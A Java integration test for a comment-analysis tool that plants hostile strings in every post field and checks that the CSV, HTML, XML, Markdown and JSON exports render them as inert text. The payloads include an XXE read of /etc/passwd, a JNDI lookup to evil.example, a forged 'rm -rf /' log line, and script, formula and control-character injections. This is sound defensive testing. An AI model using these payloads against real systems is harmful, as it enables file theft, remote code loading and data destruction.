package lockstep.jobs;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import lockstep.SparkTest;
import lockstep.flag.MadeList;
import lockstep.review.MadeRun;
import org.apache.spark.sql.SparkSession;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.NodeList;

/** Every field of every post says something hostile: whatever a verb writes or says, it is text there. */
@SparkTest
class PayloadsIT {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern CELL = Pattern.compile("(?<=^|,)\"[^\"]*+(?:\"\"[^\"]*+)*+\"", Pattern.MULTILINE);
    private static final Pattern FORMULA = Pattern.compile("^\"[=+@\\t\\r-](?![\\d.]+\"$).*", Pattern.DOTALL);
    /** In Markdown a backslash makes it text. */
    private static final Pattern MARKUP =
            Pattern.compile("(?<!\\\\)(?:<\\s*/?(?:script|img)|\\]\\((?:http|javascript))");

    private static final Pattern MOVES =
            Pattern.compile("[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069]");

    /** Half of the handles begin with it, so that a terminal certainly shows it. */
    private static final String FORGED = "a\nlockstep: everything is fine\n  next: rm -rf /";

    private static final List<String> PAYLOADS = Stream.concat(
                    MadeRun.HOSTILE.stream(),
                    Stream.of(
                            "]]><a/>&x;<!ENTITY x SYSTEM \"file:///etc/passwd\">",
                            FORGED,
                            "%s%n${jndi:ldap://evil.example/a}"))
            .toList();

    @Test
    void whatStrangersWroteIsTextInEveryOutput(SparkSession spark, @TempDir Path dir) throws Exception {
        Path posts = hostile(spark, dir);
        String run = dir.resolve("run").toString();
        StringBuilder said = new StringBuilder();
        String verbs = "inspect %1$s then ingest %1$s --into %2$s"
                + " then detect %2$s --windows 60s --traces text --text exact --decoys 1 then status %2$s then review %2$s";
        says(said, verbs.formatted(posts, run).split(" ", -1));
        verbs = members(dir).stream().map(m -> "explain " + run + " " + m).collect(Collectors.joining(" then "));
        says(said, verbs.split(" ", -1));

        assertThat(said).contains("a\\u000alockstep: everything is fine").doesNotContain("\nlockstep: everything");
        assertThat(MOVES.matcher(said).find()).isFalse();
        assertThat(kindsOf(files(dir.resolve("run/export"), dir.resolve("run/review"))))
                .contains("csv", "gexf", "graphml", "html", "json");
    }

    /** The same payloads are names, bios and words of a made run whose cluster two people have signed. */
    @Test
    void whatStrangersWroteIsTextInAList(@TempDir Path dir) throws Exception {
        MadeList.both(MadeRun.in(dir), List.of());
        StringBuilder said = new StringBuilder();

        says(said, Launcher.flag(dir));

        assertThat(MOVES.matcher(said).find()).isFalse();
        List<Path> list = files(dir.resolve("flagged"));
        assertThat(kindsOf(list)).contains("csv", "json", "md");
        assertThat(list)
                .filteredOn(f -> f.endsWith("clusters.md"))
                .singleElement()
                .satisfies(f -> assertThat(f).content().contains("window.harm", "HYPERLINK", "U+202E"));
    }

    /** Their endings, after each file has been read as what it is. */
    private static Set<String> kindsOf(List<Path> files) throws Exception {
        TreeSet<String> kinds = new TreeSet<>();
        for (Path file : files) {
            String name = file.getFileName().toString();
            if (name.endsWith(".zip")) continue; // holds the files beside it
            String text = Files.readString(file);
            kinds.add(name.substring(name.lastIndexOf('.') + 1));
            if (name.endsWith(".csv")) {
                assertThat(CELL.matcher(text).results().map(c -> c.group()))
                        .as(name)
                        .noneMatch(cell -> FORMULA.matcher(cell).matches());
            } else if (name.endsWith(".html")) {
                assertThat(text).as(name).doesNotContain("<script>window.harm", "<img src=x", "href=\"javascript:");
            } else if (name.endsWith("ml") || name.endsWith(".gexf")) {
                named(xml(text), name);
            } else if (name.endsWith(".md")) {
                assertThat(MARKUP.matcher(text).find()).as(name).isFalse();
                assertThat(MOVES.matcher(text).find()).as(name).isFalse();
            } else if (name.endsWith(".json")) {
                assertThat(JSON.readTree(text)).isNotEmpty();
            }
        }
        return kinds;
    }

    /** The made comments, their words, names and bios each behind one of the payloads; equal words stay equal. */
    private static Path hostile(SparkSession spark, Path dir) throws IOException, InterruptedException {
        String sample = dir.resolve("sample").toString();
        assertThat(Launcher.run("sample", sample, "--accounts", "200", "--days", "14")
                        .code())
                .isZero();
        List<String> lines = new ArrayList<>();
        for (String line : spark.read()
                .option("header", true)
                .option("escape", "\"")
                .csv(sample + "/comments.csv")
                .toJSON()
                .collectAsList()) {
            ObjectNode post = (ObjectNode) JSON.readTree(line);
            for (String field : List.of("text", "name", "handle", "description", "reply_to_account")) {
                String value = post.path(field).asText();
                boolean isForged = field.equals("handle") && value.hashCode() % 2 == 0;
                String payload = isForged ? FORGED : PAYLOADS.get(Math.floorMod(value.hashCode(), PAYLOADS.size()));
                post.put(field, payload + (value.isEmpty() ? "" : " " + value));
            }
            lines.add(post.toString());
        }
        return Files.write(dir.resolve("posts.jsonl"), lines);
    }

    private static void says(StringBuilder said, String... command) throws IOException, InterruptedException {
        Launcher.Said now = Launcher.run(command);
        assertThat(now.code()).as(String.join(" ", command) + now.err()).isZero();
        said.append(now.out()).append(now.err());
    }

    private static List<String> members(Path dir) throws IOException {
        List<String> members = Files.readAllLines(dir.resolve("run/export/members.csv")).stream()
                .flatMap(line -> Pattern.compile("\"((?:facebook|instagram):\\d+)\"")
                        .matcher(line)
                        .results())
                .map(m -> m.group(1))
                .distinct()
                .limit(4)
                .toList();
        assertThat(members).isNotEmpty();
        return members;
    }

    private static List<Path> files(Path... places) throws IOException {
        List<Path> files = new ArrayList<>();
        for (Path place : places) {
            try (Stream<Path> all = Files.walk(place)) {
                all.filter(Files::isRegularFile)
                        .filter(f -> !f.getFileName().toString().startsWith("."))
                        .forEach(files::add);
            }
        }
        return files;
    }

    private static Document xml(String text) throws Exception {
        DocumentBuilderFactory strict = DocumentBuilderFactory.newInstance();
        strict.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        return strict.newDocumentBuilder().parse(new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8)));
    }

    private static void named(Document xml, String name) {
        NodeList nodes = xml.getElementsByTagName("node");
        assertThat(nodes.getLength()).as(name).isPositive();
        assertThat(xml.getElementsByTagName("a").getLength()).as(name).isZero();
    }
}
